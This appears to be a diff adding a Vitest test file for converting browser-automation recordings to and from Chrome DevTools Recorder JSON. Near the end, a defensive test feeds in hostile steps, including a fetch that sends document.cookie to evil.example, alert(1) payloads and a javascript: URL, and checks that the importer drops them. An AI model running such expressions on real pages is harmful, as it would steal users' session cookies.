@@ -1,0 +1,184 @@
+import { parse } from '@puppeteer/replay';
+import { describe, expect, it } from 'vitest';
+import type { Recording, Step } from '../../../../src/protocol/recording';
+import { toDevTools } from '../../../../src/recording/formats/devtools-export';
+import { fromDevTools } from '../../../../src/recording/formats/devtools-import';
+import { allMethods, argumentsOf, recordingWith, shopUrl, stepOf, targetOf } from '../fixtures';
+
+const terms = 'https://shop.example/terms';
+
+const special: Step[] = [
+  stepOf({ id: 'f', method: 'fill', arguments: ['%email%'], target: targetOf('#email', 'textbox', 'Email') }),
+  stepOf({
+    id: 'pw',
+    method: 'fill',
+    arguments: ['%pw%'],
+    isSecret: true,
+    target: targetOf('#pw', 'textbox', 'PW'),
+  }),
+  stepOf({
+    id: 'fr',
+    method: 'click',
+    target: { ...targetOf('#pay'), frame: [{ selector: '#f', index: 0 }] },
+  }),
+  stepOf({ id: 'un', method: 'click', target: { ...targetOf('#pay'), frame: [{ selector: '#f' }] } }),
+  stepOf({ id: 'cl', method: 'check', target: { ...targetOf('#wrap'), isInClosedShadow: true } }),
+  stepOf({ id: 'url', method: 'click', expectation: { kind: 'url', url: 'https://shop.example/done' } }),
+  stepOf({ id: 'tab', method: 'click', expectation: { kind: 'tab', tab: 1, url: terms } }),
+  stepOf({ id: 'in', method: 'click', tab: 1 }),
+  stepOf({ id: 'di', method: 'click', expectation: { kind: 'dialog', answer: 'accept' } }),
+  stepOf({ id: 'op', method: 'click', isOptional: true, timeoutMs: 3000 }),
+  stepOf({
+    id: 'x',
+    method: 'click',
+    target: { selector: '//li[2]/a', alternates: [], offset: { x: 3, y: 4 } },
+  }),
+  ...['hidden', 'enabled'].map((state) => stepOf({ id: state, method: 'waitFor', arguments: [state] })),
+  ...['text', 'pageText', 'value'].map((state) =>
+    stepOf({ id: state, method: 'waitFor', arguments: [state, 'Done'] }),
+  ),
+];
+
+const whole: Recording = recordingWith(
+  [...allMethods.map((method) => stepOf({ method, arguments: argumentsOf[method] ?? [] })), ...special],
+  [
+    { name: 'email', value: 'ada@example.org' },
+    { name: 'pw', isSecret: true },
+  ],
+);
+
+type Flow = { title: string; steps: { type: string; name?: string; value?: string }[] };
+const written = (recording: Recording) => JSON.parse(toDevTools(recording).text) as Flow;
+
+describe('DevTools Recorder JSON', () => {
+  it('is what the Recorder reads', () => {
+    const flow = parse(written(whole));
+    expect(flow.title).toBe('Order a kettle');
+    expect(flow.steps.filter((step) => 'parameters' in step)).toHaveLength(whole.steps.length + 1);
+  });
+
+  it('keeps every step, of every method, on the way there and back', () => {
+    const back = fromDevTools(written(whole));
+    expect(back.notes).toEqual([]);
+    expect(back.steps).toEqual(whole.steps);
+    expect({ name: back.name, tags: back.tags, variables: back.variables }).toEqual({
+      name: whole.name,
+      tags: whole.tags,
+      variables: whole.variables,
+    });
+  });
+
+  it('types values, never those of secrets', () => {
+    const values = written(whole).steps.flatMap(({ value }) => value ?? []);
+    expect(values).toContain('ada@example.org');
+    expect(values).toContain('%pw%');
+    const { text } = toDevTools(whole, { email: 'x@y.example', pw: 'hunter2' });
+    expect(text).not.toContain('hunter2');
+  });
+
+  it('says what it cannot say', () => {
+    const { losses } = toDevTools(whole);
+    const numbered = (id: string) => whole.steps.findIndex((step) => step.id === id) + 1;
+    const of = (id: string) => losses.filter(({ step }) => step === numbered(id)).map(({ what }) => what);
+    expect(of('cl')).toContain('Closed shadow roots cannot be reached. Only Tabwright does it.');
+    expect(of('un')).toContain('It is not known which frame it is in. Only Tabwright does it.');
+    expect(of('step-dragAndDrop')).toEqual(['"dragAndDrop" is not known there. Only Tabwright does it.']);
+    expect(of('op')).toEqual(['It is done always, not only when its element is there.']);
+    expect(losses).toContainEqual({ what: '"%pw%" has to be filled in by hand.' });
+  });
+
+  it('reads the Recorder’s own steps without ours beside them', () => {
+    const flow = written(whole);
+    const bare = { ...flow, steps: flow.steps.filter(({ type }) => type !== 'customStep') };
+    const { steps } = fromDevTools(bare);
+    const deeds = steps.map(({ method, arguments: args }) => [method, ...args].join(' '));
+    expect(deeds).toEqual(
+      [
+        'click, doubleClick, hover, fill Ada, fill Ada, press Control+a, fill , click, click',
+        `fill Blue, waitFor visible, navigate ${shopUrl}, wait 250, closeTab`,
+        'fill ada@example.org, fill %pw%, click, click, click, click, click, click, click',
+        'waitFor hidden, waitFor enabled, waitFor pageText Done, waitFor value Done',
+      ].flatMap((line) => line.split(', ')),
+    );
+    const first = steps[0]?.target;
+    expect(first).toMatchObject({
+      selector: '#buy',
+      alternates: [{ kind: 'role', role: 'button', name: 'Buy' }],
+    });
+    const inTab = steps.findIndex(({ tab }) => tab === 1);
+    expect(steps[inTab - 1]?.expectation).toEqual({ kind: 'tab', tab: 1, url: terms });
+    expect(steps.find(({ target }) => target?.frame)?.target?.frame).toMatchObject([{ index: 0 }]);
+  });
+
+  it('takes a step as it is now when it was changed elsewhere, and says so', () => {
+    const flow = written(recordingWith([stepOf({ id: 'f', method: 'fill', arguments: ['Ada'] })]));
+    for (const step of flow.steps) if (step.type === 'change') step.value = 'Eve';
+    const { steps, notes } = fromDevTools(flow);
+    expect(steps.map(({ arguments: args }) => args)).toEqual([['Eve']]);
+    expect(notes).toEqual(['"Do fill" was changed elsewhere; it is as it is there now.']);
+  });
+
+  it('chooses from lists that the Recorder names by role', () => {
+    const change = {
+      type: 'change',
+      selectors: [['aria/Colour[role="combobox"]'], ['#colour']],
+      value: 'Blue',
+    };
+    expect(fromDevTools({ title: 't', steps: [change] }).steps[0]).toMatchObject({
+      method: 'selectOption',
+      target: { selector: '#colour' },
+    });
+  });
+
+  it('reads ways through shadow hosts, text and pierce selectors', () => {
+    const selectors = [
+      ['aria/Send'],
+      ['x-card', 'button'],
+      ['pierce/#send'],
+      ['text/Send'],
+      ['xpath///button'],
+    ];
+    const click = { type: 'click', selectors, offsetX: 1, offsetY: 1 };
+    expect(fromDevTools({ title: 't', steps: [click] }).steps[0]?.target).toMatchObject({
+      selector: 'x-card >>> button',
+      alternates: [
+        { kind: 'label', text: 'Send' },
+        { kind: 'id', selector: '#send' },
+        { kind: 'text', selector: 'text="Send"' },
+        { kind: 'xpath', selector: '//button' },
+      ],
+    });
+  });
+
+  it.each([
+    [
+      { type: 'waitForExpression', expression: 'fetch("https://evil.example/" + document.cookie)' },
+      'Scripts are not run',
+    ],
+    [
+      {
+        type: 'waitForExpression',
+        expression: 'alert(1)||new Promise(resolve => setTimeout(() => resolve(true), 5))',
+      },
+      'Scripts are not run',
+    ],
+    [{ type: 'navigate', url: 'javascript:alert(1)' }, 'left out'],
+    [{ type: 'customStep', name: 'evil', parameters: { code: 'x' } }, 'not ours'],
+    [
+      { type: 'customStep', name: 'tabwright.step', parameters: { step: { method: 'eval' }, natives: 0 } },
+      'not ours',
+    ],
+    [{ type: 'explode' }, 'no known kind'],
+    [{ type: 'setViewport', width: 1 }, 'no counterpart'],
+    [{ type: 'click', selectors: [], offsetX: 1, offsetY: 1 }, 'no known kind'],
+    [null, 'no known kind'],
+  ])('leaves out %j and says so', (step, note) => {
+    const { steps, notes } = fromDevTools({ title: 't', steps: [step] });
+    expect(steps).toEqual([]);
+    expect(notes.join(' ')).toContain(note);
+  });
+
+  it('refuses what is no recording', () => {
+    expect(() => fromDevTools({ steps: 'x' })).toThrow('not a recording of DevTools');
+  });
+});
